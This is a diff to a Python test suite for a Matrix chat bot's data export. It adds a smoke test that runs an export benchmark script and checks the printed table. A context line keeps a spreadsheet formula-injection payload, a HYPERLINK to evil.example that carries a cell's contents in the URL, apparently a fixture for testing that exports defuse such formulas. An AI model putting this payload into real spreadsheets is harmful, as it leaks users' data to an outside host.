@@ -35,6 +35,7 @@ HEADINGS = headings("Europe/Berlin")
 AWAY = "Back on Monday – für Notfälle 112."
 FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Click me")'
 V3 = "/_matrix/client/v3"
+ROOT = Path(__file__).resolve().parents[1]
 
 
 # -- helpers -------------------------------------------------------------------------------
@@ -584,3 +585,24 @@ async def test_bot_export_command_sends_the_file_to_the_private_room_only(
     assert set(sync.body["rooms"]["join"]) == {room}
     (entry,) = await audit_exports(api, practice_id)
     assert (entry["actor"], entry["details"]["via"]) == (staff.user_id, "bot")
+
+
+# -- the benchmark still runs ----------------------------------------------------------------
+
+
+async def test_export_bench_smoke_run_prints_its_table() -> None:
+    """bench/export.py end to end on a tiny chat (its own Synapse); no timing is asserted."""
+    proc = await asyncio.create_subprocess_exec(
+        sys.executable,
+        str(ROOT / "bench" / "export.py"),
+        "--smoke",
+        cwd=ROOT,
+        stdout=asyncio.subprocess.PIPE,
+        stderr=asyncio.subprocess.PIPE,
+    )
+    out, err = await asyncio.wait_for(proc.communicate(), 240)
+    assert proc.returncode == 0, err.decode()[-2000:]
+    lines = out.decode().splitlines()
+    assert lines[0] == "| name | figure | unit | baseline | ratio | target |"
+    assert any(line.startswith("| export 240, xlsx: peak memory") for line in lines)
+    assert any(line.startswith("| export 240: spreadsheet writing side") for line in lines)
